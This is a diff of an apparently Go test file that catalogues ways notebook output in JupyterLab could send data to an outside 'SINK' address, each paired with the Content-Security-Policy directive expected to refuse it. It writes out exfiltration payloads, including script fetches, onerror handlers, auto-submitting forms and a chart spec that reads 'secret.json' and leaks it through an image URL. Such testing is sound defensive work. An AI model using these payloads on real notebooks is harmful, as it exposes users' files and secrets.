@@ -14,27 +14,25 @@ type attack struct {
 	path    string // that it asks of the sink
 	kind    string // of its output; "" where it is a cell of text
 	content string
-	refused string // the directive that refuses it; "" where JupyterLab removes it before
+	refused string // the directive that refuses it; "" where JupyterLab removes or does not show it
 }
 
 // unsigned are the attacks of a notebook that was not run here: JupyterLab draws its charts and shows its HTML, but
 // removes scripts, style sheets and more.
 var unsigned = []attack{
-	// The first chart of a page brings a style sheet for all.
-	{"chart-style", vegaLite, chart(`"usermeta": {"embedOptions": {"defaultStyle": "@import url(SINK)"}}`),
-		"style-src-elem"},
+	{"chart-style", vegaLite, chart(""), "style-src-elem"},
 	// A file of the student's is read, and leaves as the address of a picture.
 	{"chart-picture", vegaLite, `{"data": {"url": "secret.json"}, "transform": [{"calculate": "'SINK?' + datum.secret",
 		"as": "address"}], "mark": "image", "encoding": {"url": {"field": "address"}}}`, "img-src"},
 	{"chart-data", vegaLite, `{"data": {"url": "SINK"}, "mark": "point", "encoding": {}}`, "connect-src"},
-	{"chart-options", vegaLite, chart(`"usermeta": {"embedOptions": {"config": "SINK"}}`), "connect-src"},
-	{"chart-patch", vegaLite, chart(`"usermeta": {"embedOptions": {"patch": "SINK"}}`), "connect-src"},
+	{"chart-options", vegaLite, chart(`, "usermeta": {"embedOptions": {"config": "SINK"}}`), "connect-src"},
+	{"chart-patch", vegaLite, chart(`, "usermeta": {"embedOptions": {"patch": "SINK"}}`), "connect-src"},
 	{"picture", html, `<img src="SINK">`, "img-src"},
 	{"pictures", html, `<img srcset="SINK 1x">`, ""},
-	{"film", html, `<video src="SINK" autoplay></video>`, ""},
-	{"sound", html, `<audio src="SINK" autoplay></audio>`, ""},
-	{"poster", html, `<video poster="SINK"></video>`, ""},
-	{"background", html, `<p style="background: url(SINK)">text</p>`, ""},
+	{"film", html, `<video src="SINK" autoplay></video>`, "media-src"},
+	{"sound", html, `<audio src="SINK" autoplay></audio>`, "media-src"},
+	{"poster", html, `<video poster="SINK"></video>`, "img-src"},
+	{"background", html, `<p style="background: url(SINK)">text</p>`, "img-src"},
 	{"table", html, `<table background="SINK"><tr><td>text</table>`, ""},
 	{"style", html, `<style>@import url(SINK); p { background: url(SINK) }</style><p>text</p>`, ""},
 	{"link", html, `<link rel="stylesheet" href="SINK">`, ""},
@@ -43,7 +41,7 @@ var unsigned = []attack{
 	{"frame", html, `<iframe src="SINK"></iframe>`, ""},
 	{"object", html, `<object data="SINK"></object><embed src="SINK">`, ""},
 	{"form", html, `<form action="SINK"><input name="a" autofocus onfocus="this.form.submit()"></form>`, ""},
-	{"input", html, `<input type="image" src="SINK">`, ""},
+	{"input", html, `<input type="image" src="SINK">`, "img-src"},
 	{"script", html, `<script src="SINK"></script><script>fetch("SINK")</script>`, ""},
 	{"handler", html, `<img src="data:," onerror="fetch('SINK')">`, ""},
 	{"refresh", html, `<meta http-equiv="refresh" content="0; SINK">`, ""},
@@ -61,7 +59,7 @@ var signed = []attack{
 	{"script", html, `<script>fetch("SINK"); location = "SINK"</script>`, "script-src-elem"},
 	{"script-of-sink", html, `<script src="SINK"></script>`, "script-src-elem"},
 	{"handler", html, `<img src="data:," onerror="location = 'SINK'">`, "script-src-attr"},
-	{"javascript", "application/javascript", `location = "SINK"`, "script-src-elem"},
+	{"javascript", "application/javascript", `location = "SINK"`, ""},
 	{"frame", html, `<iframe src="SINK"></iframe>`, "frame-src"},
 	{"frame-script", html, `<iframe srcdoc="<script>top.location = 'SINK'</script>"></iframe>`, "script-src-elem"},
 	{"object", html, `<object data="SINK"></object>`, "object-src"},
@@ -74,12 +72,15 @@ var signed = []attack{
 		"font-src"},
 	{"drawing", html, `<svg><image href="SINK"/></svg>`, "img-src"},
 	{"form", html, `<form action="SINK"><input type="submit" class="sends"></form>`, "form-action"},
-	{"ping", html, `<a href="#" ping="SINK" class="sends">text</a>`, "connect-src"},
+	{"ping", html, `<a href="#" ping="SINK" class="sends">text</a>`, ""}, // Debian's Chromium sends none
 }
+
+// chartOptions are those of every chart: the first one brings a style sheet for the page.
+const chartOptions = `{"embed_options": {"defaultStyle": "@import url(SINK/chart-style)"}}`
 
 // chart is a chart with one more property.
 func chart(property string) string {
-	return `{"data": {"values": [{}]}, "mark": "point", "encoding": {}, ` + property + `}`
+	return `{"data": {"values": [{}]}, "mark": "point", "encoding": {}` + property + `}`
 }
 
 // program is what a script would do that ran after all. Nothing keeps it from WebRTC, or from opening another page.
